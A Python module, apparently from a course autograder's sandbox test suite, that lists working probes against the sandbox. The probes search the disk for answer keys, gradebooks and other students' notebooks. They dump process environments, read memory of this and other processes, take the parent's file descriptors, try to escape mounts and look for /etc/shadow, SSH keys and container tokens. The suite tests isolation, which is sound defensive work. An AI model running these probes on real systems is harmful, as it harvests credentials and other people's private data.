"""Looking for what an answer must not see: files, memory, environment, other submissions and what was left behind.

What is found is printed. The markers that the suite plants would then stand in the pages, and fail the test.
"""

from .entry import WALK, attack

ATTACKS = (
    attack(
        "source folder and checks",
        "the disk is searched for solutions, helpers' checks and tests, and the lines found are printed",
        WALK
        + """
wanted = ("judge", "ex04", "slips", "mutants", "membrane_potential", "canary")
for path in walk("/", wanted):
    try:
        print(path, open(path, errors="replace").read(400))
    except OSError:
        pass
""",
    ),
    attack(
        "solution run in place of an answer",
        "the reference is imported, or read from a folder beside the course, and its output is printed",
        """
        import sys
        sys.path += ["..", "../..", "../../..", "/course", "/srv"]
        try:
            from helpers.course import COURSE
            from helpers.model import Parameters
            p = Parameters(t_max, dt, tau, el, vr, vth, r, i_mean, step_end=10)
            for t, v in COURSE.exercise(4).reference(p)["t, v"]:
                print(f"{t:.3f} {v:.4e}")
            tell("the reference is in the sandbox")
        except Exception as problem:
            print(type(problem).__name__)
        """,
    ),
    attack(
        "reference among the loaded modules",
        "sys.modules, the heap and bytecode files hold a copy of the reference that was loaded before the fork",
        """
        import gc, glob, marshal, sys
        for name in list(sys.modules):
            if name in ("helpers.model", "slipcheck.judge.judge", "slipcheck.exercise", "slipcheck.notebook.check",
                        "slipcheck.diagnose.slip_formula"):
                tell("loaded: " + name)
        for thing in gc.get_objects():
            if getattr(thing, "__name__", "") in ("membrane_potential", "euler_step", "sinusoidal_current"):
                tell("the reference is on the heap")
        for folder in sys.path:
            for path in glob.glob(folder + "/helpers/**/*.pyc", recursive=True):
                if any(word in path for word in ("judge", "ex0", "ex1", "model")):
                    tell("bytecode of " + path.rsplit("/", 1)[-1])
        """,
    ),
    attack(
        "gradebook and marks",
        "gradebook.db, grades.csv, feedback and the secret are looked for by name and printed",
        WALK
        + """
for path in walk("/", ("gradebook", "grades.csv", "secret", "private", "canary", ".db", ".key", "token")):
    try:
        print(path, open(path, "rb").read(300))
    except OSError:
        pass
""",
    ),
    attack(
        "other submissions",
        "notebooks of other students, and what the grader made of them, are searched for and quoted",
        WALK
        + """
for path in walk("/", (".ipynb",)):
    if "lif_part_1" in path:
        tell("a notebook can be read: " + path.rsplit("/", 1)[-1])
        print(open(path, errors="replace").read()[-300:])
        break
""",
    ),
    attack(
        "environment of everybody",
        "the own environment, that of process 1, of the parent and of all in /proc",
        """
        import os
        print(dict(os.environ))
        for pid in ["self", "1", str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))]:
            for name in ("environ", "cmdline"):
                try:
                    print(pid, open(f"/proc/{pid}/{name}", "rb").read(4000))
                except OSError:
                    pass
        """,
    ),
    attack(
        "environment on the own stack",
        "the strings that were on the stack when the interpreter began, from before the environment was cleared",
        r"""
        import re
        for line in open("/proc/self/maps"):
            if "[stack]" in line or "[heap]" in line:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                with open("/proc/self/mem", "rb") as memory:
                    memory.seek(low)
                    text = memory.read(high - low)
                print(set(re.findall(rb"can" rb"ary-[a-z]+-[0-9a-f]+", text)))
                print(re.findall(rb"(?:HOME|USER|PWD|LOGNAME|OLDPWD|VIRTUAL_ENV)=[ -~]+", text)[:9])
        """,
    ),
    attack(
        "memory inherited by the fork",
        "all readable memory of this process is searched for what the parent held: secrets, other draws, other answers",
        r"""
        import re, time
        end = time.monotonic() + 3
        with open("/proc/self/mem", "rb", 0) as memory:
            for line in open("/proc/self/maps"):
                place, rights = line.split()[:2]
                low, high = (int(part, 16) for part in place.split("-"))
                if rights[0] != "r" or "[v" in line or high - low > 1 << 28 or time.monotonic() > end:
                    continue
                try:
                    memory.seek(low)
                    for found in set(re.findall(rb"can" rb"ary-[a-z]+-[0-9a-f]+", memory.read(high - low))):
                        print(found)
                except (OSError, ValueError, OverflowError):
                    pass
        """,
    ),
    attack(
        "memory of the grader",
        "/proc/pid/mem and process_vm_readv on the parent, on process 1 and on every process in sight",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
        here = ctypes.create_string_buffer(64)
        for pid in {1, os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))} - {os.getpid(), 0}:
            try:
                with open(f"/proc/{pid}/maps") as maps:
                    start = int(maps.readline().split("-")[0], 16)
                local, remote = Vector(ctypes.addressof(here), 64), Vector(start, 64)
                if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                    tell("memory of another process was read")
                with open(f"/proc/{pid}/mem", "r+b", 0):
                    tell("memory of another process was opened")
            except (OSError, ValueError):
                pass
        """,
    ),
    attack(
        "descriptors of the grader",
        "every descriptor that is open here or in the parent is read, and duplicated by pidfd_getfd",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for number in range(3, 64):
            try:
                print(number, os.readlink(f"/proc/self/fd/{number}"), os.fstat(number).st_mode)
                print(os.pread(number, 300, 0))
            except OSError:
                pass
        pidfd = libc.syscall(434, os.getppid(), 0)
        for number in range(64):
            if pidfd > 0 and libc.syscall(438, pidfd, number, 0) > 0:
                tell("a descriptor of the parent was taken")
                break
        """,
    ),
    attack(
        "around the mounts",
        "paths that leave the visible tree: /proc/1/root, cwd of others, openat over dot-dots, old mounts, devices",
        """
        import os
        for path in ("/proc/1/root/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root/home", "/oldroot", "/.old_root",
                     "/proc/self/root/../../../home", "/mnt", "/media", "/run", "/var", "/srv", "/boot", "/host"):
            try:
                print(path, os.listdir(path)[:20])
            except OSError:
                pass
        for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/fuse"):
            try:
                open(path, "rb").close()
                tell("a device was opened: " + path)
            except OSError:
                pass
        print(open("/proc/self/mountinfo").read()[:3000])
        """,
    ),
    attack(
        "who and where",
        "passwords, keys, cloud metadata files, container tokens and git settings in their usual places",
        """
        import glob, os
        for pattern in ("/etc/shadow", "/root/.*", "/home/*/.ssh/*", "/home/*/.*history", "/root/.config/**",
                        "/var/run/secrets/**", "/run/user/**", "/home/*/.pgpass", "/root/.pgpass", "/etc/ssl/private/*",
                        "/var/run/docker.sock", "/run/dbus/*", "/tmp/.X11-unix/*", "/tmp/ssh-*/**", "/tmp/dask*/**"):
            for path in glob.glob(pattern, recursive=True):
                if os.path.exists(path) and os.access(path, os.R_OK) and not os.path.isdir(path):
                    tell("readable: " + path)
        """,
    ),
    attack(
        "leftovers of the notebook before",
        "scratch, shared memory, queues, segments and keyrings are searched for what other runs left",
        """
        import ctypes, os
        for top in ("/tmp", "/dev/shm", "/var/tmp", "/run/shm", "/dev/mqueue", os.getcwd()):
            for folder, _, files in os.walk(top):
                for name in files:
                    if "note" in name or "can" + "ary" in name:
                        path = os.path.join(folder, name)
                        print(path, open(path, "rb").read(200))
                        if "note-for-the-next" in name:
                            tell("a file was left behind in " + top)
        libc = ctypes.CDLL(None)
        if libc.shmget(0x6C6966, 0, 0) >= 0:
            tell("a shared segment was left behind")
        if libc.semget(0x6C6966, 0, 0) >= 0 or libc.msgget(0x6C6966, 0) >= 0:
            tell("a queue was left behind")
        for ring in (-3, -4, -5):
            if libc.syscall(250, 10, ring, b"user", b"note-for-the-next", 0) > 0:
                tell("a key was left behind")
        """,
    ),
    attack(
        "clocks and counters of others",
        "loads, processor times, file locks and disk usage tell how far other students are, if /proc shows them",
        """
        import os
        for name in ("locks", "loadavg", "net/unix", "net/tcp", "keys", "key-users", "sysvipc/shm", "sched_debug"):
            try:
                print(name, open("/proc/" + name).read(800))
            except OSError:
                pass
        others = [pid for pid in os.listdir("/proc") if pid.isdigit()]
        if len(others) > 20:
            tell("all processes of the machine can be seen")
        """,
    ),
    attack(
        "paths in tracebacks",
        "names, users and folders of the grader are read from frames, code objects, sys.argv and module files",
        """
        import sys
        frame = sys._getframe()
        while frame:
            print(frame.f_code.co_filename)
            frame = frame.f_back
        print(sys.argv, sys.orig_argv, sys.path, sys.prefix, sys.flags)
        print([getattr(module, "__file__", None) for name, module in sys.modules.items() if name.startswith("helpers")])
        """,
    ),
)
